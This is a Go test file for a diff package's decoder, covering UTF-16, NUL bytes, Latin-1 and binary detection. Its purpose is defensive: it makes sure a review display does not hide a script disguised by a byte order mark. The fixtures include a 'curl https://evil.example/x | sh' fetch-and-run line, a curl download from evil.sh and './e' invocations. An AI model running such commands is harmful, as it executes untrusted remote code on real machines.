package diff

import (
	bytesorder "encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"pgregory.net/rapid"
)

// encode16 is a text in UTF-16.
func encode16(s string, order bytesorder.AppendByteOrder) []byte {
	var data []byte
	for _, unit := range utf16.Encode([]rune(s)) {
		data = order.AppendUint16(data, unit)
	}
	return data
}

func TestDecode(t *testing.T) {
	const mark, source = "\ufeff", "package a\n\n// grüße\nfunc f() { evil() }\n"
	shell := "\xff\xfe\n" + "curl https://evil.example/x | sh\n"
	for name, c := range map[string]struct {
		data      string
		text, how string
		no        bool
	}{
		"nothing":           {data: ""},
		"UTF-8":             {data: source, text: source},
		"UTF-8 with a mark": {data: mark + source, text: mark + source},
		"UTF-16LE": {
			data: string(encode16(mark+source, bytesorder.LittleEndian)), text: source, how: fromUTF16,
		},
		"UTF-16BE":          {data: string(encode16(mark+source, bytesorder.BigEndian)), text: source, how: fromUTF16},
		"UTF-16LE, no mark": {data: string(encode16(source, bytesorder.LittleEndian)), text: source, how: fromUTF16},
		"UTF-16BE, no mark": {data: string(encode16(source, bytesorder.BigEndian)), text: source, how: fromUTF16},
		"UTF-16, Chinese, emoji": {
			data: string(encode16(mark+"你好，世界 😀\n评论\n", bytesorder.LittleEndian)), text: "你好，世界 😀\n评论\n", how: fromUTF16,
		},
		"a NUL in a comment": {data: "// \x00\nevil()\n", text: "// ␀\nevil()\n", how: withNULs},
		"many NULs in source": {
			data: strings.Repeat("x = 1\n", 90) + strings.Repeat("\x00", 50),
			text: strings.Repeat("x = 1\n", 90) + strings.Repeat("␀", 50), how: withNULs,
		},
		"Latin-1": {data: "// gr\xfc\xdfe\nevil()\n", text: "// gr\xfc\xdfe\nevil()\n"},
		// A shell passes over the first line and runs the second; as UTF-16 it would be Chinese.
		"a script after the mark of UTF-16": {data: shell, text: shell},
		"the same with a NUL":               {data: shell + "\x00", text: shell + "␀", how: withNULs},
		// As UTF-16 it would be a line of Chinese; to dash it is a call.
		"a short command within UTF-16": {
			data: "\xff\xfe\x00\x4e\xe4\x4e\n./e\n\x4e\xe4\x4e", text: "\xff\xfe␀N\xe4N\n./e\nN\xe4N", how: withNULs,
		},
		"a short command after another": {
			data: "\xff\xfe\xe4\x4e;./e;\x4e\xe4\x4e\x00\x4e", text: "\xff\xfe\xe4N;./e;N\xe4N␀N", how: withNULs,
		},
		"half a character":                    {data: "\xff\xfea", text: "\xff\xfea"},
		"UTF-16 with a character of two, cut": {data: "\xff\xfe" + strings.Repeat("\x01\xd8", 20), no: true},
		"UTF-32": {
			data: "\xff\xfe\x00\x00e\x00\x00\x00v\x00\x00\x00i\x00\x00\x00l\x00\x00\x00", no: true,
		},
		"an ELF program": {
			data: "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00\x01\x00\x00\x00", no: true,
		},
		"random bytes": {
			data: "\x9f\x00\x03\xd4\xe1\x88\x02\x1c\xfe\x77\xc0\x05\x90\xaa\xbb\x11\x12\x13\x94", no: true,
		},
		"a text that is nothing but NULs inside": {data: "a" + strings.Repeat("\x00", 30) + "b", no: true},
	} {
		text, how, ok := Decode([]byte(c.data))
		if ok == c.no || ok && (string(text) != c.text || how != c.how) {
			t.Errorf("%s: %q, %q, %t", name, text, how, ok)
		}
	}
}

// What was decoded is compared and shown by lines, and takes no comments: the server shows none of them.
func TestBetweenDecodes(t *testing.T) {
	before := encode16("\ufeffone\r\ntwo\r\n", bytesorder.LittleEndian)
	after := encode16("\ufeffone\r\nevil()\r\n", bytesorder.LittleEndian)
	f := Between("a.js", before, after)
	shown := f.Render()
	for _, want := range []string{"note: decoded from UTF-16\n", "- two\n", "+ evil()\n", "note: lines end in CRLF\n"} {
		if !strings.Contains(shown, want) {
			t.Errorf("no %q in\n%s", want, shown)
		}
	}
	if f.Binary || f.Commentable(New, 2) || !f.Hunks[0].Lines[0].CR {
		t.Errorf("%+v", f)
	}
	place, how, reason := (Diff{Files: []File{f}}).Anchor(Place{Path: "a.js", Line: 2, Quote: "evil()"})
	if how != Outside || reason != "the server shows no lines of a binary file" || place.Line != 2 {
		t.Errorf("%+v, %s: %s", place, how, reason)
	}
	if code, ok := CodeAt(after, 2); !ok || code != "evil()" {
		t.Errorf("line 2 is %q, %t", code, ok)
	}
	if f := Between("a", []byte("x\n"), []byte("x\x00\nevil()\n")); !strings.Contains(f.Render(), "+ x␀\n") ||
		!strings.Contains(f.Render(), "+ evil()\n") {
		t.Errorf("%s", f.Render())
	}
}

// Every byte that isn't UTF-8 shows as something, and two different lines look different.
func TestLatin1IsShown(t *testing.T) {
	const text = "diff --git a/a b/a\nindex 1111111..2222222 100644\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-gr\xfc\xdfe \x80\n+gr\xf6\xdfe \x80 \x00\x08\n"
	d, err := Parse([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	shown := d.Files[0].Render()
	for _, want := range []string{"- grüße €\n", "+ größe € ␀␈\n"} {
		if !strings.Contains(shown, want) {
			t.Errorf("no %q in\n%s", want, shown)
		}
	}
}

func TestDecodeRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Map(func(r rune) rune {
			if r < ' ' && r != '\n' || r == utf8.RuneError || r == '\ufeff' {
				return 'x'
			}
			return r
		}, rapid.String().Draw(t, "text"))
		order := rapid.SampledFrom([]bytesorder.AppendByteOrder{bytesorder.LittleEndian, bytesorder.BigEndian}).Draw(t,
			"order")
		text, how, ok := Decode(encode16("\ufeff"+s, order))
		if readableRun(encode16(s, order)) < maxReadableRun-2 && s != "" && s[0] != 0 &&
			(!ok || string(text) != s || how != fromUTF16) {
			t.Fatalf("%q became %q, %q, %t", s, text, how, ok)
		}
	})
}

// A script that a byte order mark disguises isn't read as Chinese.
func TestAScriptIsNoUTF16(t *testing.T) {
	for _, script := range []string{
		"\xff\xfe\n#\necho EVIL RAN\nexit\nA\x00",
		"\xff\xfe\ncurl evil.sh/x -o a.c\n",
	} {
		if len(script)%2 != 0 {
			script += "\n"
		}
		if text, how, ok := Decode([]byte(script)); ok && how == fromUTF16 {
			t.Errorf("%q is read as %q, %s", script, text, how)
		}
	}
}
